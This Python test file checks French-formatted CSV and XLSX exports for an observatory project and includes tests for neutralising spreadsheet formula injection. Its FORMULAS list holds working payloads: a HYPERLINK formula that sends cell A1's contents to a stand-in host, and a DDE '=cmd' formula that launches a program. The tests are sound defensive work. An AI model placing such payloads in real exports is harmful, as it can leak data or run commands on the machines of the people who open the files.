"""One French CSV/XLSX writer for every download and every CLI export."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pandas as pd

from observatoire import tables


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "territoire": ["COM:04112", "DEP:04", "REG:93"],
            "nombre": pd.array([1204, None, 35_000], dtype="Int64"),
            "taux": [7.25, float("nan"), 12.5],
            "gravite": [0.125, "inconnue", 0.5],  # numbers and words in one column
            "jour": pd.to_datetime(["2024-07-14", "2024-01-02", None]),
            "moment": pd.to_datetime(["2024-07-14 20:05", "2024-01-02 08:00", None]).tz_localize("UTC"),
            "date_python": [date(2024, 3, 1), None, date(2023, 12, 31)],
            "publie": [True, False, True],
        }
    )


def test_csv_bytes_open_in_french_excel_and_read_back():
    data = tables.to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    text = data.decode("utf-8-sig")
    header, first, second, third = text.splitlines()
    assert header == "territoire;nombre;taux;gravite;jour;moment;date_python;publie"
    assert first == "COM:04112;1204;7,25;0,125;14/07/2024;14/07/2024 22:05;01/03/2024;True"  # Paris time
    assert second == "DEP:04;;;inconnue;02/01/2024;02/01/2024 09:00;;False"  # unknown stays empty, never 0
    back = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig")
    assert list(back.columns) == list(_frame().columns)
    assert back.taux.tolist()[0] == 7.25 and pd.isna(back.taux[1]) and back.nombre.tolist()[2] == 35_000
    assert back.territoire.tolist() == ["COM:04112", "DEP:04", "REG:93"]
    assert tables.to_csv_text(_frame()) == data.decode("utf-8")


def test_xlsx_has_title_table_and_source():
    data = tables.to_xlsx_bytes(_frame(), "comparaisons", title="Taux pour 1 000", source="Source : SSMSI")
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book["comparaisons"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "Taux pour 1 000"
    assert list(rows[1]) == list(_frame().columns)
    assert rows[2][:4] == ("COM:04112", 1204, 7.25, 0.125)  # numbers stay numbers
    assert rows[2][4] == datetime(2024, 7, 14) and ws.cell(row=3, column=5).number_format == "DD/MM/YYYY"
    assert rows[2][5] == datetime(2024, 7, 14, 22, 5)
    assert ws.cell(row=3, column=6).number_format == "DD/MM/YYYY HH:MM"
    assert rows[3][1] is None and rows[3][2] is None  # unknown: an empty cell
    assert rows[-1][0] == "Source : SSMSI"
    plain = openpyxl.load_workbook(io.BytesIO(tables.to_xlsx_bytes(_frame().head(1))))
    assert next(plain.active.iter_rows(values_only=True))[0] == "territoire"  # no title: the header first


def test_moments_of_a_timezone_aware_object_column_in_paris_time():
    frame = pd.DataFrame({"quand": [datetime(2024, 7, 14, 20, 5, tzinfo=UTC), "?"]})
    assert tables.to_csv_text(frame).splitlines()[1] == "14/07/2024 22:05"


FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?q="&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
]


def test_texts_a_spreadsheet_would_run_are_neutralised_in_csv_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "secteur": [*FORMULAS, "-2+3", "\t=1+1", "\r=1+1", "Centre", "-12", "+3,5 %"],
            "nombre": [-1, 2, -3, 4, 5, 6, 7, 8, 9, 10],
            "melange": [-1.5, "=1+2", None, 2.0, "x", "-", "- Nord", 0.5, -7.25, "@x"],
        }
    )
    frame["categorie"] = pd.Categorical(["=A1", "B", "=A1", "B", "B", "B", "B", "B", "B", "B"])
    frame["=en-tete"] = "ok"
    back = pd.read_csv(
        io.StringIO(tables.to_csv_text(frame).lstrip("\ufeff")), sep=";", dtype=str, keep_default_na=False
    )
    assert back.secteur.tolist()[:7] == [*(f"'{f}" for f in FORMULAS), "'-2+3", "'\t=1+1", "'\r=1+1"]
    # plain text, and signed numbers written as text, as they are
    assert back.secteur.tolist()[7:] == ["Centre", "-12", "+3,5 %"]
    assert back.nombre.tolist()[:3] == ["-1", "2", "-3"]  # a negative number is no formula
    assert back.melange.tolist() == ["-1,5", "'=1+2", "", "2,0", "x", "'-", "'- Nord", "0,5", "-7,25", "'@x"]
    assert back.categorie.tolist()[:2] == ["'=A1", "B"]
    assert list(back.columns)[-1] == "'=en-tete"
    records = list(
        csv.reader(io.StringIO(tables.to_csv_text(frame).lstrip("\ufeff"), newline=""), delimiter=";")
    )
    assert len(records) == 11  # a carriage return inside a value starts no row
    leading = {f for r in records for f in r if f.startswith(tables.FORMULA_LEADS)}
    assert leading == {"-1", "-3", "-1,5", "-7,25", "-12", "+3,5 %"}  # numbers only


def test_xlsx_writes_every_text_as_a_string_cell():
    frame = pd.DataFrame(
        {"territoire": [*FORMULAS, "Manosque"], "taux": [-1.5, 2.0, None, 0.25, -3.0], "=nom": "x"}
    )
    data = tables.to_xlsx_bytes(frame, title="=SUM(A1:A9)", source="@source")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (ws["A1"].value, ws["A1"].data_type) == ("=SUM(A1:A9)", "s")
    assert (ws["C2"].value, ws["C2"].data_type) == ("=nom", "s")
    assert [(ws.cell(row, 1).value, ws.cell(row, 1).data_type) for row in range(3, 8)] == [
        *((f, "s") for f in FORMULAS),
        ("Manosque", "s"),
    ]
    assert [(ws.cell(row, 2).value, ws.cell(row, 2).data_type) for row in (3, 7)] == [(-1.5, "n"), (-3, "n")]
    assert (ws["A9"].value, ws["A9"].data_type) == ("@source", "s")
